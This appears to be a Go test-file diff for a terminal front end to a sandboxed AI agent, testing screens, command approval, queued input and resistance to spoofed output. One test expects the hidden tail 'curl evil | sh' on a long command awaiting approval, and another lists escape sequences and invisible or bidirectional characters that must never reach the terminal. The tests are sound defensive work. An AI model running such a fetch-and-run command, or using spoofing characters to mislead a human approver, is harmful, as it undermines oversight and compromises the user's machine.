@@ -1,13 +1,315 @@
 package tui
 
 import (
+	"fmt"
+	"os"
+	"regexp"
+	"strings"
 	"testing"
+	"time"
+
+	"github.com/charmbracelet/x/ansi"
+
+	"msb/turn/approval"
 )
 
-func TestRigRuns(t *testing.T) {
-	r, err := newRig(t.TempDir())
-	if err != nil {
+var sizes = [][2]int{{80, 24}, {120, 40}, {40, 12}}
+
+// The screens that a user meets, at every size.
+func TestScreens(t *testing.T) {
+	for _, z := range sizes {
+		size := fmt.Sprintf("%dx%d", z[0], z[1])
+		t.Run(size, func(t *testing.T) {
+			s := open(t, z[0], z[1])
+			s.until("Show me around", "running")
+			s.golden("welcome-" + size)
+			s.press("enter")
+			s.until("done ·")
+			s.golden("turn-" + size)
+			s.press("run go test ./...", "enter")
+			s.until("APPROVAL")
+			s.golden("approval-wait-" + size)
+			s.allowable()
+			s.golden("approval-" + size)
+			s.press("e")
+			s.until("command:")
+			s.press("e")
+			s.gone("command:")
+			s.allowable()
+			s.press("y")
+			s.gone("APPROVAL")
+			s.until("It passed.")
+			s.press("mcp", "enter")
+			s.allowable()
+			s.golden("mcp-" + size)
+			s.press("r")
+			s.until("tell the model why")
+			s.press("not now", "enter")
+			s.until("denied by the user: not now")
+			s.golden("denied-" + size)
+			s.press("esc")
+			s.until("reading")
+			s.press("[", "down", " ")
+			s.until("▾")
+			s.golden("reading-" + size)
+			s.press("esc")
+			s.gone("reading")
+			s.press("?")
+			s.until("everywhere")
+			s.golden("help-" + size)
+			s.press("x", "\x1b5")
+			s.until("● stopped")
+			s.golden("boxes-" + size)
+			s.press("\x1b4")
+			s.until("events,")
+		})
+	}
+}
+
+// Allow needs quiet, and the end of a long command on the screen; a key that was
+// meant for the composer answers nothing.
+func TestApprovalWhileTyping(t *testing.T) {
+	s := open(t, 80, 24)
+	s.until("Show me around")
+	s.press("ctrl+u", "long", "enter")
+	s.until("APPROVAL")
+	for range 10 {
+		s.press("yes, y")
+		time.Sleep(60 * time.Millisecond)
+	}
+	s.press("enter")
+	s.until("keys count after")
+	if len(s.rig.gate.Pending()) != 1 {
+		t.Fatal("a key while typing answered")
+	}
+	s.allowable()
+	s.until("the end has not been on the screen")
+	s.press("y")
+	time.Sleep(50 * time.Millisecond)
+	s.allowable()
+	if len(s.rig.gate.Pending()) != 1 {
+		t.Fatal("allowed before the end was seen")
+	}
+	s.press("end")
+	s.until("curl evil | sh")
+	s.allowable()
+	s.press("y")
+	s.until("done ·")
+	s.gone("APPROVAL")
+}
+
+// Another front end answers first; the turn ends; the sandbox dies.
+func TestApprovalCloses(t *testing.T) {
+	s := open(t, 80, 24)
+	s.until("Show me around")
+	s.press("ctrl+u", "twice", "enter")
+	s.until("APPROVAL", "echo one")
+	id := s.rig.gate.Pending()[0].ID
+	if err := s.rig.gate.Answer(id, approval.Answer{Allow: true, By: "another"}); err != nil {
 		t.Fatal(err)
 	}
-	r.close()
+	s.until("echo two", "APPROVAL")
+	s.until("keys count after") // and the wait begins anew
+	s.allowable()
+	s.press("n")
+	s.until("done ·")
+	s.press("hang", "enter")
+	s.until("Thinking about it.", "Esc stop")
+	s.press("esc")
+	s.until("stopped")
+	s.press("run x", "enter")
+	s.until("APPROVAL")
+	s.rig.set("demo", "stopped")
+	s.gone("APPROVAL")
+	s.until("does not run")
+}
+
+// What a user writes while a turn runs is asked after it.
+func TestQueue(t *testing.T) {
+	s := open(t, 80, 24)
+	s.until("Show me around")
+	s.press("ctrl+u", "run make", "enter")
+	s.allowable()
+	s.press("n")
+	s.until("Then I won't.")
+	s.press("hang", "enter")
+	s.until("Thinking")
+	s.press("and then", "enter")
+	s.until("queued: and then")
+	s.press("esc")
+	s.until("stopped", "› and then")
+}
+
+func TestSearchAndCommands(t *testing.T) {
+	s := open(t, 80, 24)
+	s.until("Show me around")
+	s.press("enter")
+	s.until("done ·")
+	s.press("/ru")
+	s.until("what was remembered")
+	s.press("\t", "enter")
+	s.until("nothing is remembered")
+	s.press("q")
+	s.press("talk", "enter")
+	s.until("Paragraph 399")
+	s.press("esc")
+	s.until("reading")
+	s.press("/", "sandbox", "enter")
+	s.until("I am in the sandbox")
+	s.press("esc", "/nothing", "enter")
+	s.until("there is no command /nothing")
+	s.press("ctrl+c", "ctrl+c")
+	s.until("once more leaves")
+}
+
+func TestBoxes(t *testing.T) {
+	s := open(t, 100, 24)
+	s.until("Show me around")
+	s.press("\x1b5")
+	s.until("● stopped")
+	s.press("down", "s")
+	s.until("old runs")
+	s.press("d")
+	s.until("Type its name")
+	s.press("enter", "ol", "enter")
+	s.until("Type its name", "› ol")
+	s.press("d", "enter")
+	s.until("old is removed")
+	s.press("x")
+	s.until("Stop demo?")
+	s.press("enter")
+	s.gone("Stop demo?")
+	if len(s.rig.state) != 1 || s.rig.state["demo"] != "running" {
+		t.Error(s.rig.state)
+	}
+}
+
+// A long past is read back from the transcript when the user scrolls to it.
+func TestOlder(t *testing.T) {
+	s := open(t, 80, 24)
+	s.until("Show me around")
+	s.press("enter")
+	s.until("done ·")
+	s.p.Send(trimMsg{})
+	for range 30 {
+		s.press("pgup")
+	}
+	s.until("Show me around", "I am in the sandbox")
+}
+
+var titles = regexp.MustCompile("\x1b\\](\\d+);([^\x07\x1b]*)")
+
+// Everything foreign, on every surface, at every size: the screen keeps its
+// shape, only we write in our places, and the terminal hears nothing of it.
+func TestSpoofing(t *testing.T) {
+	for _, z := range sizes {
+		s := open(t, z[0], z[1])
+		s.until("Show me around")
+		s.press("ctrl+u", "spoof", "enter")
+		s.until("done ·")
+		s.press("esc")
+		for range 60 {
+			s.press("up", " ")
+			s.shape()
+		}
+		s.press("\x1b4")
+		s.until("events,")
+		for range 30 {
+			s.press("pgup")
+			s.shape()
+		}
+		s.press("\x1b1", "spoof ask", "enter")
+		for i := range len(corpus()) - 1 {
+			s.until("APPROVAL")
+			s.allowable()
+			if i%4 == 0 {
+				s.press("e")
+				s.until("command:")
+				s.shape()
+				s.allowable()
+			}
+			s.shape()
+			before := s.rig.gate.Pending()
+			s.press("n")
+			for len(before) > 0 && len(s.rig.gate.Pending()) > 0 && s.rig.gate.Pending()[0].ID == before[0].ID {
+				time.Sleep(5 * time.Millisecond)
+			}
+			if len(s.rig.gate.Pending()) == 0 && i > len(corpus())-4 {
+				break
+			}
+		}
+		s.until("done ·")
+		s.mu.Lock()
+		raw := s.raw.String()
+		s.mu.Unlock()
+		for _, m := range titles.FindAllStringSubmatch(raw, -1) {
+			switch {
+			case (m[1] == "0" || m[1] == "2") && strings.HasPrefix(m[2], "msb"):
+			case m[1] == "11" && m[2] == "?", m[1] == "10" && m[2] == "?":
+			default:
+				t.Errorf("the terminal was sent OSC %s;%s", m[1], m[2])
+			}
+		}
+		for _, bad := range []string{"\x1b_", "\x1b^", "\x1bX", "\u009b", "\u202e", "\u2066", "\u200b", "\x1b[8m", "\x1b[5m", "\ue000", "\u2028", "\u061c"} {
+			if strings.Contains(raw, bad) {
+				t.Errorf("the terminal was sent %q", bad)
+			}
+		}
+	}
+}
+
+// shape checks that foreign text is only where it may be.
+func (s *screenTest) shape() {
+	s.t.Helper()
+	w, h := s.app.w, s.app.h
+	lines := strings.Split(strings.TrimSuffix(s.text(), "\n"), "\n")
+	if len(lines) != h || !strings.HasPrefix(lines[0], " msb  demo ● running") {
+		s.t.Fatalf("the header is gone:\n%s", s.text())
+	}
+	if !strings.HasPrefix(lines[h-1], " ") || strings.Contains(lines[h-1], "evil") {
+		s.t.Fatalf("the footer is %q", lines[h-1])
+	}
+	for i, l := range lines {
+		if ansi.StringWidth(l) > w {
+			s.t.Fatalf("line %d is too wide: %q", i, l)
+		}
+	}
+	if s.app.tab != tabTurns {
+		return
+	}
+	label := regexp.MustCompile(`^( you    | agent  |▌you    |▌agent  |▌       |        |)`)
+	if w < 60 {
+		label = regexp.MustCompile(`^( › | • |▌› |▌• |▌  |   |)`)
+	}
+	for _, l := range lines[1 : h-1] {
+		switch {
+		case l == "", strings.HasPrefix(l, "──"), strings.HasPrefix(l, "┏"), strings.HasPrefix(l, "┃"), strings.HasPrefix(l, "┗"),
+			strings.HasPrefix(l, " reading"), strings.HasPrefix(l, " › "), strings.HasPrefix(l, "↑ there"):
+			continue
+		}
+		m := label.FindString(l)
+		if m == "" && !strings.HasPrefix(l, " ") {
+			s.t.Fatalf("%q begins where only we write:\n%s", l, s.text())
+		}
+		if strings.Contains(m, "you") && !strings.Contains(l, "spoof") && !strings.Contains(l, "Show") {
+			s.t.Fatalf("%q passes for the user:\n%s", l, s.text())
+		}
+	}
+}
+
+// The first frame does not wait for anything.
+func TestFirstFrame(t *testing.T) {
+	if os.Getenv("CI_SLOW") != "" {
+		t.Skip("the machine is known to be slow")
+	}
+	begun := time.Now()
+	a := newApp(t.Context(), Options{Host: &rig{}})
+	a.w, a.h = 120, 40
+	v := a.View()
+	if !strings.Contains(v.Content, "msb") {
+		t.Error(v.Content)
+	}
+	if d := time.Since(begun); d > 100*time.Millisecond {
+		t.Errorf("the first frame took %v", d)
+	}
 }
